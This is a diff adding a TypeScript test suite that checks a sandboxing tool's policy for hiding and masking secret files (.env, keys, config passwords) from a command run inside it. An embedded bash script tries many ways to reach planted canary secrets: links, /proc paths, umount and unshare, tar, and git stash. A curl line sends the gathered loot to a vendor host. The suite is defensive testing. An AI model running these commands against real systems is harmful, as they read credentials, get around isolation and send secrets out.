@@ -1,0 +1,218 @@
+// Files the policy hides and masks: nothing inside has what is in them, by whatever way it tries, and the person's files are as
+// they were. What the tool got is what it left in the checkout, in its copy or at the vendor's; what it says counts for nothing.
+
+import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
+import { createHash } from "node:crypto";
+import {
+  chmodSync,
+  existsSync,
+  linkSync,
+  lstatSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
+import { dirname, join } from "node:path";
+import { test } from "node:test";
+import { git, openStage, readLog, type Stage, vendorHost } from "./fault-stage.ts";
+
+const canaries = {
+  hidden: "canary-hidden-1f0c",
+  deep: "canary-deep-77ab",
+  masked: "canary-masked-c0de",
+  unknown: "canary-unknown-4e4e",
+} as const;
+type Canary = keyof typeof canaries;
+
+const rules = { hide: ["secrets/**", "*.pem"], mask: [".env", "config/*.json", "notes.vault"] };
+
+function lay(stage: Stage): void {
+  const put = (path: string, text: string): void => {
+    mkdirSync(dirname(join(stage.work, path)), { recursive: true });
+    writeFileSync(join(stage.work, path), text);
+  };
+  put(".gitignore", ".env\nsecrets/\n*.pem\nignored/\nconfig/\nnotes.vault\nloot*\n");
+  put("secrets/key", `${canaries.hidden}\n`);
+  put("secrets/below/deep", `${canaries.deep}\n`);
+  put("ignored/one.pem", `${canaries.deep}\n`);
+  put(".env", `# ${canaries.masked}\nTOKEN=${canaries.masked}\nDEBUG=true\n`);
+  put("packages/a/.env", `export TOKEN="${canaries.masked}"\n`);
+  put("config/prod.json", `{"password":"${canaries.masked}","port":5432}`);
+  put("notes.vault", `${canaries.unknown} is the word\n`);
+  linkSync(join(stage.work, "secrets/key"), join(stage.work, "src/second"));
+  symlinkSync("secrets/key", join(stage.work, "by-link"));
+  symlinkSync("packages", join(stage.work, "ways"));
+  chmodSync(join(stage.work, "secrets/key"), 0o644);
+}
+
+function policyFor(stage: Stage, more: object = {}): string {
+  const path = join(stage.base, "hiding.yaml");
+  const given = JSON.parse(readFileSync(stage.policy, "utf8")) as object;
+  writeFileSync(path, JSON.stringify({ ...given, files: rules, ...more }));
+  return path;
+}
+
+/** Every file of the person's with its content, kind and permissions. */
+function digest(work: string): string {
+  const hash = createHash("sha256");
+  const names = readdirSync(work, { recursive: true, encoding: "utf8" })
+    .filter((name) => !/^(?:loot|\.git\/)/.test(name))
+    .sort();
+  for (const name of names) {
+    const stats = lstatSync(join(work, name));
+    const content = stats.isFile() ? readFileSync(join(work, name)) : "";
+    if (!stats.isDirectory()) hash.update(`${name}\0${stats.mode}\0${stats.ino}\0`).update(content);
+  }
+  return hash.digest("hex");
+}
+
+/** Whatever a tool could think of; what it finds it writes down and sends away. */
+const ways = `
+  look() { "$@" >>loot 2>/dev/null; }
+  for f in secrets/key secrets/below/deep ./secrets/../secrets/key SECRETS/key by-link src/second ignored/one.pem notes.vault \\
+    .env packages/a/.env ways/a/.env config/prod.json; do
+    look cat "$f"; look dd if="$f"; look cp "$f" loot-copy; look cat loot-copy
+    ln "$f" loot-hard 2>/dev/null; look cat loot-hard; rm -f loot-hard loot-copy
+  done
+  look grep -r canary .
+  chmod -R u+rwX secrets 2>/dev/null; look cat secrets/key
+  look tar cf - .
+  look find . -type f -exec cat {} +
+  mv packages moved 2>/dev/null; look cat moved/a/.env; mv moved packages 2>/dev/null
+  mv config conf2 2>/dev/null; look cat conf2/prod.json; mv conf2 config 2>/dev/null
+  mv secrets elsewhere 2>/dev/null; look cat elsewhere/key
+  rm -f .env 2>/dev/null; look cat .env
+  look cat /proc/self/cwd/secrets/key /proc/1/root$PWD/secrets/key
+  umount .env 2>/dev/null; umount secrets 2>/dev/null; look cat .env secrets/key
+  look unshare -Urm sh -c 'umount .env; cat .env'
+  git stash -q 2>/dev/null; look git show stash@{0}:.env; look git diff; git stash pop -q 2>/dev/null
+  curl -s -o /dev/null "https://${vendorHost}/$(tr -dc 'a-z0-9-' <loot | head -c 4000)" || true
+  true
+`;
+
+const found = (text: string): readonly Canary[] =>
+  (Object.keys(canaries) as Canary[]).filter((name) => text.includes(canaries[name]));
+
+function treeOf(stage: Stage): string {
+  const [name = ""] = readdirSync(join(stage.state, "staged")).filter((each) => each.startsWith("s-"));
+  return join(stage.state, "staged", name, "tree");
+}
+
+/** Every byte below, but what is not the tool's to reach. */
+const everything = (directory: string): string =>
+  execFileSync("sh", ["-c", 'find "$0" -type f -exec cat {} +', directory], { encoding: "latin1", maxBuffer: 2 ** 28 });
+
+for (const edits of ["live", "staged"] as const)
+  test(`edits ${edits}: no way inside leads to what is hidden or masked (needs namespaces)`, async () => {
+    await using stage = await openStage();
+    lay(stage);
+    const before = digest(stage.work);
+    const run = ["run", "--edits", edits, "--policy", policyFor(stage), "--", "bash", "-c", ways];
+    // the tool without a boundary has all of it: it would be noticed
+    execFileSync("bash", ["-c", "grep -r --exclude=loot canary . > loot"], { cwd: stage.work });
+    assert.deepEqual(found(readFileSync(join(stage.work, "loot"), "latin1")), Object.keys(canaries));
+    writeFileSync(join(stage.work, "loot"), "");
+    const { code, errors } = await stage.ask(run);
+    assert.equal(code, 0, errors);
+    const loot = join(edits === "live" ? stage.work : treeOf(stage), "loot");
+    const got = readFileSync(loot, "latin1");
+    assert.deepEqual(found(got), [], "nothing of it was read");
+    assert.match(got, /postern-masked-1/, "it read what is shown instead");
+    assert.match(got, /DEBUG=true/);
+    assert.deepEqual(found(stage.seen.join("\n")), []);
+    assert.ok(
+      stage.seen.some((target) => target.includes("postern-masked")),
+      stage.seen.join(" "),
+    );
+    if (edits === "staged") assert.deepEqual(found(everything(treeOf(stage))), [], "nothing of it is in the copy");
+    assert.equal(digest(stage.work), before, "the person's files are as they were");
+    assert.match(errors, /hidden inside: \d+, masked: 3/);
+    assert.match(errors, /1 file is hidden and not masked/);
+    const [start] = await readLog(stage, ["--kind", "session.start"]);
+    assert.equal(start?.counts?.["files-masked"], 3);
+    assert.ok((start?.counts?.["files-hidden"] ?? 0) >= 4, JSON.stringify(start?.counts));
+    const entries = await readLog(stage, ["--kind", "hidden-file"]);
+    if (edits === "live")
+      assert.ok(
+        entries.some(({ sealed }) => sealed?.["path"] === ".env"),
+        `an attempt at it is on the record: ${JSON.stringify(entries.map(({ sealed }) => sealed?.["path"]))}`,
+      );
+  });
+
+test("staged: git inside has nothing to tell of what is hidden, and nothing made in its place lands", async () => {
+  await using stage = await openStage();
+  lay(stage);
+  writeFileSync(join(stage.work, ".gitignore"), "loot*\n");
+  git(stage.work, stage.home, ["add", "-A"]);
+  git(stage.work, stage.home, ["add", "-f", ".env", "secrets/key", "config/prod.json"]);
+  git(stage.work, stage.home, ["commit", "-q", "-m", "with secrets"]);
+  const before = digest(stage.work);
+  const script = `git status --porcelain >loot-status
+    mkdir -p secrets; echo new >secrets/new; echo TOKEN=mine >.env; echo fine >fine.txt
+    git config user.name t; git config user.email t@example.org
+    git add fine.txt; git commit -q -m fine; git switch -q -c bad
+    git update-index --no-skip-worktree .env; git add -f .env; git commit -q -m placeholder`;
+  const { code, errors } = await stage.ask([
+    "run",
+    "--edits",
+    "staged",
+    "--policy",
+    policyFor(stage),
+    "--",
+    "sh",
+    "-ec",
+    script,
+  ]);
+  assert.equal(code, 0, errors);
+  assert.match(errors, /git has \d+ files that the policy hides or masks: its history is readable inside/);
+  assert.equal(readFileSync(join(treeOf(stage), "loot-status"), "utf8"), "", "git inside tells no change of them");
+  const shown = await stage.ask(["review"]);
+  assert.match(shown.output, /\.env.*masked by the policy \(files\.mask: \.env\)/s);
+  assert.match(shown.output, /secrets\/new.*hidden by the policy \(files\.hide: secrets\/\*\*\)/s);
+  for (const path of [".env", "secrets/new", "refs/heads/bad"]) {
+    const refused = await stage.ask(["review", "--accept", path]);
+    assert.equal(refused.code, 1, `${path}: ${refused.output}`);
+    assert.match(refused.errors, /by the policy/);
+  }
+  assert.equal(digest(stage.work), before);
+  const landed = await stage.ask(["review", "--accept", "fine.txt", "refs/heads/main"]);
+  assert.equal(landed.code, 0, landed.errors);
+  assert.equal(readFileSync(join(stage.work, "fine.txt"), "utf8"), "fine\n");
+  assert.equal(existsSync(join(stage.work, "secrets/new")), false);
+  assert.match(readFileSync(join(stage.work, ".env"), "utf8"), /canary-masked/, "no placeholder over a real value");
+  assert.match(git(stage.work, stage.home, ["show", "main:.env"]), /canary-masked/);
+  assert.equal(git(stage.work, stage.home, ["status", "--porcelain"]), "", "and nothing is told as deleted outside");
+  const entries = await readLog(stage, ["--kind", "hidden-file"]);
+  assert.deepEqual(entries.map(({ sealed }) => String(sealed?.["path"])).toSorted(), [".env", "secrets/new"]);
+});
+
+test("live: what comes later into a hidden directory is hidden too; a repository's own policy may hide", async () => {
+  await using stage = await openStage();
+  lay(stage);
+  writeFileSync(join(stage.work, "postern.yaml"), JSON.stringify({ version: 1, files: { hide: ["private/**"] } }));
+  mkdirSync(join(stage.work, "private"));
+  const script =
+    "echo >begun; until test -e went; do sleep 0.05; done; cat private/* secrets/* >loot 2>/dev/null; true";
+  const running = stage.start(["run", "--policy", policyFor(stage), "--", "sh", "-c", script]);
+  for (let turn = 0; turn < 600 && !existsSync(join(stage.work, "begun")); turn += 1)
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  writeFileSync(join(stage.work, "private/later"), canaries.deep);
+  writeFileSync(join(stage.work, "secrets/later"), canaries.deep);
+  writeFileSync(join(stage.work, "went"), "");
+  const { code, errors } = await running.told;
+  assert.equal(code, 0, errors);
+  assert.deepEqual(found(readFileSync(join(stage.work, "loot"), "utf8")), []);
+});
+
+test("what cannot be hidden whole is a reason not to start", async () => {
+  await using stage = await openStage();
+  lay(stage);
+  symlinkSync("..", join(stage.work, "src/around.pem"));
+  const { code, errors } = await stage.ask(["run", "--policy", policyFor(stage), "--", "touch", "canary"]);
+  assert.equal(code, 125, errors);
+  assert.match(errors, /not everything that files\.hide and files\.mask mean can be found: .*around\.pem is a link/);
+  assert.equal(existsSync(stage.canary), false);
+});
